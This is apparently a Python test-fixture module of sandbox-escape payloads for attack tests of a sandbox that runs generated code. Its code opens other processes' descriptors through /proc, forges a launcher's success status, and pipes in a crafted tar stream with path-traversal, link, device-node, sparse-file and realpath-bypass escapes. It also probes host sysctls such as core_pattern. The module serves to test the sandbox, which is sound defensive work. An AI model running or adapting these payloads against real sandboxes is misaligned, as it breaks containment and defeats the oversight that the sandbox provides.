"""Payloads of generated code that tries to get out of its sandbox, shared by the sandbox's and the skill import's attack tests.

``LIBRARY`` is Python source (the standard library only) that defines, in the generated code:

- ``open_others()``: walks ``/proc`` and opens every descriptor of every other process it can see for writing (never
  writing to it); its report (``[pid, fd, what]`` of each one opened) and the open descriptors;
- ``crafted_stream(dest, sentinels, victim)``: what a run's launcher hands back on its control pipe, forged: a status line
  that says the run exited 0, then a tar stream that tries every way out of the run folder ``dest`` into ``sentinels``
  (absolute and ``../`` names, symbolic and hard links out, a linked folder with a file through it, device nodes, a sparse
  file far past any disk limit, many files, and a chain of links with long names that stops ``os.path.realpath`` from
  resolving, so tarfile's ``data`` filter lets a member out on Python releases without its fix);
- ``send(handles, stream)``: writes the stream into each opened pipe that is not the run's own stdin, stdout or stderr;
- ``open_sysctls()``: opens the host's sysctls for writing (``os.O_WRONLY``, never a byte written, never truncated).

Every member it crafts is named ``crafted-*`` (or lies in such a folder), so what reached the run folder can be told apart
from what the run wrote. Only paths under the test's own folder are targeted.
"""

from __future__ import annotations

# Sysctls and trigger files that change the whole machine when written (never written here: only opened for writing).
SYSCTLS = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/sysrq", "/proc/sys/kernel/panic",
           "/proc/sys/kernel/randomize_va_space", "/proc/sys/kernel/core_uses_pid", "/proc/sys/vm/drop_caches",
           "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/file-max", "/proc/sys/fs/suid_dumpable", "/proc/sysrq-trigger"]  # fmt: skip

# Reads each path of a JSON object {name: path} (``%r``) and prints the names and paths of those whose text holds a
# canary (``%r``): what of the machine the run could read.
READ_ALL = """
import json
found = {}
for name, path in json.loads(%r).items():
    try:
        with open(path, errors="replace") as fh:
            text = fh.read()
    except OSError:
        continue
    if %r in text:
        found[name] = path
print(json.dumps(found))
"""

# Its status line says the run exited 0 and was not stopped.
FAKE_STATUS = '{"status": 0, "timed_out": false}'

LIBRARY = r'''
import io as _io, json as _json, os as _os, tarfile as _tarfile

SYSCTLS = %(sysctls)r
FAKE_STATUS = %(fake_status)r
SPARSE_BYTES = 1900 * 1024 * 1024


def own_pipes():
    """What this process's stdin, stdout and stderr are (``pipe:[inode]``)."""
    found = set()
    for fd in (0, 1, 2):
        try:
            found.add(_os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return found


def open_others():
    """Open each descriptor of each other process in sight for writing; ([pid, fd, what] of each opened, [(fd, what)])."""
    me, report, handles = _os.getpid(), [], []
    for pid in sorted(int(p) for p in _os.listdir("/proc") if p.isdigit()):
        if pid == me:
            continue
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in sorted(fds, key=int):
            path = f"/proc/{pid}/fd/{fd}"
            try:
                what = _os.readlink(path)
            except OSError:
                what = "?"
            try:  # non-blocking: a pipe without a reader, a FIFO or a terminal never holds the run up
                handle = _os.open(path, _os.O_WRONLY | _os.O_NONBLOCK | _os.O_NOCTTY | _os.O_CLOEXEC)
            except OSError:
                continue
            report.append([pid, int(fd), what])
            handles.append((handle, what))
    return report, handles


def open_sysctls():
    """The sysctls this process could open for writing (nothing is written)."""
    opened = []
    for path in SYSCTLS:
        try:
            fd = _os.open(path, _os.O_WRONLY | _os.O_CLOEXEC)
        except OSError:
            continue
        _os.close(fd)
        opened.append(path)
    return opened


def _add(tar, name, kind=_tarfile.REGTYPE, data=b"", linkname="", **fields):
    info = _tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, 0o755 if kind == _tarfile.DIRTYPE else 0o644
    for key, value in fields.items():
        setattr(info, key, value)
    if kind == _tarfile.REGTYPE and "pax_headers" not in fields:
        info.size = len(data)
    tar.addfile(info, _io.BytesIO(data) if info.size else None)


def _realpath_bypass(tar, dest, target):
    """Members that write ``target`` (outside ``dest``) where os.path.realpath gives up on a path over PATH_MAX (ENAMETOOLONG).

    Sixteen folders with long names, each reached through a one-letter link, make a short path that resolves to a long one;
    a link in the deepest folder goes back up to ``dest``. realpath cannot lstat that link (its resolved path is too long),
    takes it for a folder and climbs the resolved path instead, so a link through it to ``../..`` looks inside ``dest``
    while the kernel follows it out.
    """
    steps = ["crafted-a", *"bcdefghijklmnop"]
    comp = "crafted-" + "d" * (min(247, (4000 - len(dest)) // len(steps) - 1) - 8)
    path = ""
    for step in steps:
        _add(tar, _os.path.join(path, comp), _tarfile.DIRTYPE)
        _add(tar, _os.path.join(path, step), _tarfile.SYMTYPE, linkname=comp)
        path = _os.path.join(path, comp)
    back = _os.path.join(*steps, "l" * 254)
    _add(tar, back, _tarfile.SYMTYPE, linkname="../" * len(steps))
    _add(tar, "crafted-escape", _tarfile.SYMTYPE, linkname=back + "/" + _os.path.relpath(target, dest))
    _add(tar, "crafted-escape", data=b"escaped through the realpath bypass\n")


def _sparse(tar, name, size):
    """A member of ``size`` bytes (GNU sparse 1.0) carried in a few hundred bytes."""
    data = b"x"
    table = f"1\n{size - len(data)}\n{len(data)}\n".encode()
    table += b"\0" * (-len(table) %% 512)
    info = _tarfile.TarInfo(f"GNUSparseFile.0/{name}")
    info.size = len(table) + len(data)
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": name, "GNU.sparse.realsize": str(size)}
    tar.addfile(info, _io.BytesIO(table + data))


def crafted_stream(dest, sentinels, victim, many=3000, extra=None):
    """A forged hand-back: the status line of a run that exited 0, then a tar stream aimed out of ``dest`` into ``sentinels``
    (``extra``: files of the run folder, name -> bytes, carried along: the real hand-back after it is never read)."""
    out = _io.BytesIO()
    with _tarfile.open(fileobj=out, mode="w", format=_tarfile.PAX_FORMAT) as tar:
        for name, data in (extra or {}).items():
            _add(tar, name, data=data)
        _realpath_bypass(tar, dest, _os.path.join(sentinels, "crafted-bypass.txt"))
        _add(tar, _os.path.join(sentinels, "crafted-absolute.txt"), data=b"absolute\n")
        _add(tar, _os.path.relpath(_os.path.join(sentinels, "crafted-dotdot.txt"), dest), data=b"dot dot\n")
        _add(tar, "crafted-abs-link", _tarfile.SYMTYPE, linkname=sentinels)
        _add(tar, "crafted-abs-link/crafted-through-abs.txt", data=b"through an absolute link\n")
        _add(tar, "crafted-up-link", _tarfile.SYMTYPE, linkname=_os.path.relpath(sentinels, dest))
        _add(tar, "crafted-up-link/crafted-through-up.txt", data=b"through a ../ link\n")
        _add(tar, "crafted-chain", _tarfile.SYMTYPE, linkname="crafted-up-link")
        _add(tar, "crafted-chain/crafted-through-chain.txt", data=b"through a link to a link\n")
        _add(tar, "crafted-hard", _tarfile.LNKTYPE, linkname=victim)
        _add(tar, "crafted-hard", data=b"pwned through an absolute hard link\n")
        _add(tar, "crafted-hard-up", _tarfile.LNKTYPE, linkname=_os.path.relpath(victim, dest))
        _add(tar, "crafted-hard-up", data=b"pwned through a ../ hard link\n")
        _add(tar, "crafted-null", _tarfile.CHRTYPE, devmajor=1, devminor=3)
        _add(tar, "crafted-disk", _tarfile.BLKTYPE, devmajor=8, devminor=0)
        _add(tar, "crafted-fifo", _tarfile.FIFOTYPE)
        _add(tar, "crafted-long/" + "/".join(["x" * 250] * 8) + "/crafted-deep.txt", data=b"deep\n")
        _sparse(tar, "crafted-sparse.bin", SPARSE_BYTES)
        _add(tar, "crafted-many", _tarfile.DIRTYPE)
        for i in range(many):
            _add(tar, f"crafted-many/{i}")
        _add(tar, "result.json", data=b'"forged answer"')
    return (FAKE_STATUS + "\n").encode() + out.getvalue()


def send(handles, stream):
    """Write ``stream`` into each opened pipe but the run's own; close every handle. How many took it whole."""
    import fcntl

    mine, took = own_pipes(), 0
    for handle, what in handles:
        try:
            if what.startswith("pipe:") and what not in mine:
                fcntl.fcntl(handle, fcntl.F_SETFL, fcntl.fcntl(handle, fcntl.F_GETFL) & ~_os.O_NONBLOCK)
                view = memoryview(stream)
                while view:
                    view = view[_os.write(handle, view):]
                took += 1
        except OSError:
            pass
        finally:
            _os.close(handle)
    return took
''' % {"sysctls": SYSCTLS, "fake_status": FAKE_STATUS}


def escape_payload(sentinels: str, victim: str, exit_code: int = 1) -> str:
    """Generated code that opens what it can of other processes, forges a hand-back into every pipe it got, and exits
    ``exit_code``; its last stdout line: ``{"opened": [[pid, fd, what], ...], "sent": n, "sysctls": [...]}``."""
    return LIBRARY + (
        "import sys\n"
        "opened, handles = open_others()\n"
        f"sent = send(handles, crafted_stream(_os.getcwd(), {sentinels!r}, {victim!r})) if handles else 0\n"
        "print(_json.dumps({'opened': opened, 'sent': sent, 'sysctls': open_sysctls()}))\n"
        "sys.stdout.flush()\n"
        f"sys.exit({exit_code})\n"
    )
